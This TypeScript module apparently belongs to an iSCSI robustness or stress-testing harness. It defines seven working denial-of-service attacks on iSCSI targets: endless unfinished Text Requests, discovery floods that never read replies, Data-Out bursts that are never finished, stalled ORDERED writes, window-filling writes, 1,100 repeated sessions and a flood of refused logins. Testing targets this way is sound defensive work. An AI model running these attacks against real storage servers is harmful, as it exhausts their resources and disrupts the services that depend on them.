import { setTimeout as delay } from 'node:timers/promises';
import { write16 } from '../../initiator/cdb.ts';
import { Connection } from '../../initiator/connection.ts';
import { freshIsid, login } from '../../initiator/login.ts';
import {
  Bhs,
  DataOut,
  NO_TAG,
  Opcode,
  type Pdu,
  pdu,
  R2t,
  TextRequest,
  TextResponse,
} from '../../initiator/pdu.ts';
import { ATTACKER_NAME, type Attack, type AttackField } from './attack.ts';
import { AttackSession, openSessions } from './attack-session.ts';

const DISCOVERY_SESSIONS = 96;
const TEXTS_AT_ONCE = 64;
const HOLD_MS = 2000;
const ORDERED = 2;

/** Text Requests with the C bit and one byte of data each, none ever whole. */
const unfinishedTexts: Attack = {
  name: 'unfinished texts',
  does: `${DISCOVERY_SESSIONS} discovery sessions send Text Requests of one byte, never the last`,
  start: async (field) => {
    for (let index = 0; index < DISCOVERY_SESSIONS; index++) void textsForEver(field, index);
  },
};

async function textsForEver(field: AttackField, index: number): Promise<void> {
  for (;;) {
    const session = await AttackSession.open(field, `${ATTACKER_NAME}-${index}`, {
      sessionType: 'Discovery',
    });
    let tag = NO_TAG;
    session.onAnswer = ({ bhs }) => {
      if (Bhs.opcode.get(bhs) !== Opcode.textResponse) tag = NO_TAG;
      else if (tag === NO_TAG) tag = TextResponse.targetTransferTag.get(bhs);
    };
    session.sendBytes(textPiece(session, tag), 1);
    while (session.connection.isOpen) {
      const pieces = Array.from({ length: TEXTS_AT_ONCE }, () => textPiece(session, tag));
      if (tag !== NO_TAG) session.sendBytes(Buffer.concat(pieces), pieces.length);
      await delay(5);
    }
  }
}

function textPiece(session: AttackSession, targetTransferTag: number): Buffer {
  const request = pdu(
    TextRequest,
    {
      opcode: Opcode.textRequest,
      immediate: 1,
      more: 1,
      initiatorTaskTag: 1,
      targetTransferTag,
      cmdSn: session.cmdSn,
      expStatSn: session.expStatSn,
    },
    Buffer.from('x'),
  );
  return Buffer.concat([request.bhs, request.data, Buffer.alloc(3)]);
}

/** Discovery sessions that ask and ask, and take no answer. */
const silentReaders: Attack = {
  name: 'silent readers',
  does: `${DISCOVERY_SESSIONS} discovery sessions ask for all targets and read no answer`,
  start: async (field) => {
    const options = { sessionType: 'Discovery' } as const;
    for (const session of await openSessions(field, DISCOVERY_SESSIONS, options)) {
      session.connection.pause();
      void askForEver(session);
    }
  },
};

async function askForEver(session: AttackSession): Promise<void> {
  const request = pdu(
    TextRequest,
    {
      opcode: Opcode.textRequest,
      immediate: 1,
      final: 1,
      initiatorTaskTag: 1,
      targetTransferTag: NO_TAG,
      cmdSn: session.cmdSn,
      expStatSn: session.expStatSn,
    },
    Buffer.from('SendTargets=All\0'),
  );
  const whole = Buffer.concat([request.bhs, request.data]);
  const many = Buffer.concat(Array.from({ length: TEXTS_AT_ONCE }, () => whole));
  while (session.connection.isOpen) {
    if (session.connection.unsentBytes === 0) session.sendBytes(many, TEXTS_AT_ONCE);
    await delay(5);
  }
}

/** Sizes of Data-Out by turns: a target may copy one and keep the whole buffer of the other. */
const SEGMENTS = [32_768, 1];

const oddDataOuts: Attack = {
  name: 'odd Data-Outs',
  does: 'sends 16 MiB writes in pieces of 32 KiB and one byte, then empty ones for ever',
  start: async (field) => {
    for (const session of await openSessions(field)) void sendOddly(session);
  },
};

async function sendOddly(session: AttackSession): Promise<void> {
  const { blockLength } = session.field;
  const bytes = 16 * 1024 * 1024;
  const held: (() => void)[] = [];
  session.onR2t = (request) => {
    held.push(answerOddly(session, request));
  };
  const cdb = write16(0, bytes / blockLength);
  const dataOut = new Uint8Array(blockLength);
  session.send({ cdb, dataOut, expectedLength: bytes });
  while (session.connection.isOpen) {
    await delay(HOLD_MS);
    for (const sendEmpty of held) sendEmpty();
  }
}

/** Sends all of a burst but its end; returns what sends an empty piece of it. */
function answerOddly(session: AttackSession, { bhs }: Pdu): () => void {
  let offset = R2t.bufferOffset.get(bhs);
  const end = offset + R2t.desiredLength.get(bhs) - 1;
  let dataSn = 0;
  const send = (length: number): void => {
    const fields = {
      opcode: Opcode.dataOut,
      initiatorTaskTag: R2t.initiatorTaskTag.get(bhs),
      targetTransferTag: R2t.targetTransferTag.get(bhs),
      expStatSn: session.expStatSn,
      dataSn: dataSn++,
      bufferOffset: offset,
    };
    session.connection.send(pdu(DataOut, fields, new Uint8Array(length)));
    session.field.tally.requests++;
    offset += length;
  };
  while (offset < end) send(Math.min(SEGMENTS[dataSn % 2]!, end - offset));
  return () => send(0);
}

const DORMANT_WRITES = 250;

const dormantWrites: Attack = {
  name: 'dormant writes',
  does: `${DORMANT_WRITES} writes of one block a session wait behind an ORDERED one without data`,
  start: async (field) => {
    for (const session of await openSessions(field)) void lieDormant(session);
  },
};

async function lieDormant(session: AttackSession): Promise<void> {
  const { blockLength } = session.field;
  const cdb = write16(0, 8);
  const held: (() => void)[] = [];
  session.onR2t = ({ bhs }) => {
    held.push(answerOddly(session, { bhs } as Pdu));
  };
  const first = { cdb, dataOut: new Uint8Array(blockLength), expectedLength: 8 * blockLength };
  session.send({ ...first, attribute: ORDERED });
  const dataOut = new Uint8Array(blockLength);
  for (let index = 0; index < DORMANT_WRITES && session.connection.isOpen; index++) {
    session.send({ cdb: write16(index, 1), dataOut });
    // Each in a receive buffer of its own, if the target can be brought to that.
    await delay(1);
  }
  while (session.connection.isOpen) {
    await delay(HOLD_MS);
    for (const sendEmpty of held) sendEmpty();
  }
}

const WIDE_BYTES = 1024 * 1024;
const FIRST_BURST_BYTES = 65_536;

const wideWrites: Attack = {
  name: 'wide writes',
  does: 'fills the window with writes of 1 MiB, each with a whole first burst, and sends no more',
  start: async (field) => {
    const cdb = write16(0, WIDE_BYTES / field.blockLength);
    const dataOut = new Uint8Array(FIRST_BURST_BYTES);
    for (let index = 0; index < field.sessions; index++) {
      void (async () => {
        for (;;) {
          const session = await AttackSession.open(field, `${ATTACKER_NAME}-${index}`);
          await session.flood(() => ({ cdb, dataOut, expectedLength: WIDE_BYTES }));
        }
      })();
    }
  },
};

const SESSIONS_MANY = 1100;
const LOGINS_AT_ONCE = 16;

const manySessions: Attack = {
  name: 'many sessions',
  does: `opens ${SESSIONS_MANY} sessions of one initiator, and opens them again when they end`,
  start: async (field) => {
    let due = SESSIONS_MANY;
    const work = async (): Promise<void> => {
      for (;;) {
        if (due === 0) await delay(20);
        else {
          due--;
          field.tally.requests++;
          const session = await AttackSession.open(field, ATTACKER_NAME);
          void session.connection.closed.then(() => due++);
        }
      }
    };
    for (let index = 0; index < LOGINS_AT_ONCE; index++) void work();
    // The harm begins when the sessions are there.
    for (let waited = 0; due > 0 && waited < 40; waited++) await delay(50);
  },
};

const REFUSED_AT_ONCE = 32;

const refusedLogins: Attack = {
  name: 'refused logins',
  does: `logs in to a target that does not exist, over ${REFUSED_AT_ONCE} connections at a time`,
  start: async (field) => {
    const work = async (): Promise<void> => {
      for (;;) {
        field.tally.requests++;
        await refusedLogin(field);
      }
    };
    for (let index = 0; index < REFUSED_AT_ONCE; index++) void work();
  },
};

async function refusedLogin({ address, targetName, tally }: AttackField): Promise<void> {
  try {
    const connection = await Connection.open(address);
    try {
      const isid = freshIsid();
      const initiatorName = ATTACKER_NAME;
      await login(connection, { initiatorName, isid, targetName: `${targetName}-none` });
    } finally {
      connection.destroy();
    }
  } catch {
    tally.ended++;
    await delay(1);
  }
}

/** Attacks by what iSCSI itself knows; some need no login that the document would refuse. */
export const iscsiAttacks: readonly Attack[] = [
  unfinishedTexts,
  silentReaders,
  oddDataOuts,
  dormantWrites,
  wideWrites,
  manySessions,
  refusedLogins,
];
